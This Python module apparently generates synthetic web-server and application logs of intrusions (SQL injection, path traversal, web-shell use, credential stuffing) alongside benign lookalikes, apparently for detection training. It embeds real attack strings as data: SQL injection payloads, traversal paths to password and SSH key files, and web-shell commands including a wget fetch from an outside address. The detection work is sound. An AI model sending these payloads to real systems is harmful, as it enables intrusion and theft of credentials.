"""What web servers and applications log of intrusions, and of visitors who look like them."""

from __future__ import annotations

from forja.corpus.synth.grammar import Draw, between, hexadecimal_digits, pick, sample
from forja.corpus.synth.logs import access, browser, jsonl
from forja.corpus.synth.names import public_address
from forja.corpus.synth.site import Clock, Line, Site, Story

PAGES = [
    "/",
    "/index.html",
    "/products",
    "/products/{n}",
    "/cart",
    "/about",
    "/login",
    "/static/app.{h}.js",
    "/static/site.css",
    "/img/{n}.webp",
    "/api/v1/items?page={d}",
    "/search?q={w}",
    "/contact",
    "/favicon.ico",
    "/news/{n}",
    "/account",
    "/api/v1/session",
    "/robots.txt",
]


WORDS = ["pump", "valve", "paper", "shelf", "lamp", "glove", "cable", "filter", "scale", "label", "boots", "drill"]


SCANNERS = (
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "python-requests/2.31.0",
    "curl/8.4.0",
    "Go-http-client/1.1",
    "Mozilla/5.0",
)


def web_noise(site: Site, clock: Clock, draw: Draw, most: int = 7) -> list[Line]:
    """Visitors."""
    lines: list[Line] = []
    client, agent = public_address(draw), browser(draw)
    for _ in range(between(0, most, draw)):
        if draw() < 0.4:
            client, agent = public_address(draw), browser(draw)
        page = pick(PAGES, draw).format(
            n=between(1, 999, draw), d=between(1, 9, draw), h=hexadecimal_digits(6, draw), w=pick(WORDS, draw)
        )
        status = pick((200, 200, 200, 304, 404 if page.startswith(("/img", "/news", "/products/")) else 200), draw)
        referer = f"https://www.{site.firm.domain}/" if draw() < 0.4 else "-"
        at = clock.after(0.5, 25)
        size = between(1800, 48000, draw) if status == 200 else 0 if status == 304 else 153
        lines.append((at, access(at, client, f"GET {page}", status, size, agent, referer)))
    return lines


def sql_injection(site: Site, draw: Draw, attack: bool) -> Story:
    """Quotes that end our sentence; or customers called O'Brien."""
    clock = Clock(site.start, draw)
    path, name = pick(
        (
            ("/search", "q"),
            ("/products", "id"),
            ("/api/v1/orders", "customer"),
            ("/news", "cat"),
            ("/login", "user"),
            ("/report", "from"),
        ),
        draw,
    )
    client = site.outside[0] if attack else public_address(draw)
    agent = pick(SCANNERS, draw) if attack and draw() < 0.6 else browser(draw)
    bad = (
        "1%27%20OR%20%271%27=%271",
        "1%20UNION%20SELECT%20NULL,NULL,NULL--",
        "-1%20UNION%20SELECT%20username,password%20FROM%20users--+",
        "1%27%20AND%20SLEEP(5)--+",
        "1;%20SELECT%20pg_sleep(5)--",
        "1%27%20ORDER%20BY%20{d}--+",
        "%27",
        "1%20AND%20{n}={n}",
        "1%27%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))--+",
        "admin%27--",
        "1%20UNION%20ALL%20SELECT%20table_name%20FROM%20information_schema.tables--",
    )
    good = (
        "O%27Brien",
        "D%27Angelo",
        "drop+shipping",
        "union+fittings",
        "select+grade+timber",
        "10%25+discount",
        "l%27atelier",
        "1+or+2+inch+valve",
        "order+by+phone",
        "table+lamp",
    )
    lines = web_noise(site, clock, draw)
    probes = sample(bad if attack else good, between(3, 7, draw), draw)
    for probe in probes:
        value = probe.format(d=between(2, 12, draw), n=between(1000, 9999, draw)) if "{" in probe else probe
        status = pick((200, 200, 500, 403) if attack else (200,), draw)
        at = clock.after(0.2, 4) if attack else clock.after(15, 300)
        lines.append(
            (
                at,
                access(
                    at,
                    client if attack or draw() < 0.4 else public_address(draw),
                    f"GET {path}?{name}={value}",
                    status,
                    between(300, 90000 if attack else 9000, draw),
                    agent,
                ),
            )
        )
        if draw() < 0.35:
            lines += web_noise(site, clock, draw, 2)
    lines += web_noise(site, clock, draw)
    return Story(
        lines,
        "T1190",
        "access.log",
        {"source": client, "target": f"{path}?{name}=", "count": str(len(probes)), "tool": agent.split("/")[0]},
        "CWE-89",
    )


def path_traversal(site: Site, draw: Draw, attack: bool) -> Story:
    """Two dots too many; or an old page with relative links."""
    clock = Clock(site.start, draw)
    path, name = pick(
        (
            ("/download", "file"),
            ("/view", "page"),
            ("/static", ""),
            ("/export", "template"),
            ("/help", "lang"),
            ("/image", "src"),
        ),
        draw,
    )
    client = site.outside[0] if attack else public_address(draw)
    agent = pick(SCANNERS, draw) if attack and draw() < 0.5 else browser(draw)
    up = pick(("../", "..%2f", "%2e%2e/", "..%252f", "....//"), draw)
    bad = (
        "etc/passwd",
        "etc/hosts",
        "proc/self/environ",
        "var/log/auth.log",
        "home/deploy/.ssh/id_rsa",
        "app/config/.env",
        "etc/shadow",
        "windows/win.ini",
        "opt/app/settings.py",
    )
    good = (
        "manual.pdf",
        "price-list.pdf",
        "../img/logo.png",
        "terms.html",
        "catalogue-{n}.pdf",
        "../css/print.css",
        "form-{n}.docx",
        "map.svg",
    )
    lines = web_noise(site, clock, draw)
    probes = sample(bad if attack else good, between(3, 6, draw), draw)
    for probe in probes:
        value = up * between(2, 8, draw) + probe if attack else probe.format(n=between(1, 99, draw))
        request = f"GET {path}?{name}={value}" if name else f"GET {path}/{value}"
        at = clock.after(0.2, 5) if attack else clock.after(10, 200)
        status = pick((404, 403, 400, 200), draw) if attack else pick((200, 200, 304, 404), draw)
        lines.append((at, access(at, client, request, status, between(150, 4000, draw), agent)))
    lines += web_noise(site, clock, draw)
    return Story(
        lines,
        "T1190",
        "access.log",
        {"source": client, "target": path, "count": str(len(probes)), "tool": agent.split("/")[0]},
        "CWE-22",
    )


def web_shell(site: Site, draw: Draw, attack: bool) -> Story:
    """A script uploaded as a picture and then called with commands; or pictures."""
    clock = Clock(site.start, draw)
    client = site.outside[0] if attack else public_address(draw)
    agent = browser(draw)
    folder = pick(("/uploads", "/media/avatars", "/wp-content/uploads/2024", "/files/tmp", "/attachments"), draw)
    name = (
        f"{hexadecimal_digits(6, draw)}.{pick(('php', 'phtml', 'jsp', 'aspx', 'jpg.php'), draw)}"
        if attack
        else f"{pick(WORDS, draw)}-{between(1, 99, draw)}.{pick(('jpg', 'png', 'webp'), draw)}"
    )
    form = pick(("/profile/avatar", "/api/v1/upload", "/support/attach", "/admin/media"), draw)
    lines = web_noise(site, clock, draw)
    at = clock.after(2, 30)
    lines.append(
        (
            at,
            access(
                at,
                client,
                f"POST {form}",
                pick((200, 201, 302), draw),
                between(100, 900, draw),
                agent,
                f"https://www.{site.firm.domain}{form}",
            ),
        )
    )
    commands = sample(
        (
            "id",
            "whoami",
            "uname+-a",
            "cat+/etc/passwd",
            "ls+-la",
            "netstat+-an",
            "wget+http://{a}/x",
            "ps+aux",
            "cat+../config.php",
            "find+/+-perm+-4000",
        ),
        between(3, 6, draw),
        draw,
    )
    for command in commands:
        at = clock.after(2, 25)
        query = f"?{pick(('cmd', 'c', 'x', 'exec'), draw)}={command.replace('{a}', site.outside[-1])}" if attack else ""
        visitor = client if attack or draw() < 0.3 else public_address(draw)
        lines.append(
            (
                at,
                access(
                    at,
                    visitor,
                    f"{'POST' if attack and draw() < 0.3 else 'GET'} {folder}/{name}{query}",
                    200,
                    between(20, 4000, draw) if attack else between(9000, 90000, draw),
                    agent,
                ),
            )
        )
        if draw() < 0.3:
            lines += web_noise(site, clock, draw, 2)
    lines += web_noise(site, clock, draw)
    return Story(
        lines,
        "T1505.003",
        "access.log",
        {"source": client, "target": f"{folder}/{name}", "count": str(len(commands)), "tool": form},
        "CWE-434",
    )


def credential_stuffing(site: Site, draw: Draw, attack: bool) -> Story:
    """Leaked pairs tried one by one; or many customers on the day of a sale. A web application's own log."""
    clock = Clock(site.start, draw)
    lines: list[Line] = []
    count = between(7, 14, draw)
    source, agent = site.outside[0], pick(SCANNERS[1:], draw)
    failed = 0
    for _ in range(count):
        good = draw() < (0.12 if attack else 0.92)
        failed += not good
        at = clock.after(0.1, 1.2) if attack else clock.after(0.5, 9)
        rest: dict[str, object] = {
            "level": "info" if good else "warn",
            "event": "login_ok" if good else "login_failed",
            "user": f"{pick(WORDS, draw)}{between(10, 9999, draw)}",
            "ip": source if attack and draw() < 0.8 else public_address(draw),
        }
        if not good:
            rest["reason"] = pick(("bad_password", "unknown_user") if attack else ("bad_password",), draw)
        if draw() < 0.5:
            rest["ua"] = agent if attack else browser(draw)
        lines.append((at, jsonl(at, rest)))
        if draw() < 0.25:
            at = clock.after(0.1, 3)
            others: tuple[dict[str, object], ...] = (
                {"event": "cart_add", "sku": between(100, 999, draw)},
                {"event": "page_view", "path": "/sale"},
                {"event": "cache_miss", "key": f"item:{between(1, 99, draw)}"},
                {"event": "checkout", "total": between(9, 400, draw)},
            )
            lines.append((at, jsonl(at, {"level": "info"} | pick(others, draw))))
    if attack and draw() < 0.5:
        at = clock.after(1, 9)
        lines.append((at, jsonl(at, {"level": "warn", "event": "rate_limited", "ip": source, "limit": "30/min"})))
    return Story(
        lines,
        "T1110.004",
        "app.jsonl",
        {
            "source": source if attack else "many addresses",
            "target": "/login",
            "count": str(failed),
            "tool": agent.split("/")[0],
        },
        "CWE-307" if attack else None,
    )


ATTACKS = {
    "sql-injection": sql_injection,
    "path-traversal": path_traversal,
    "web-shell": web_shell,
    "credential-stuffing": credential_stuffing,
}
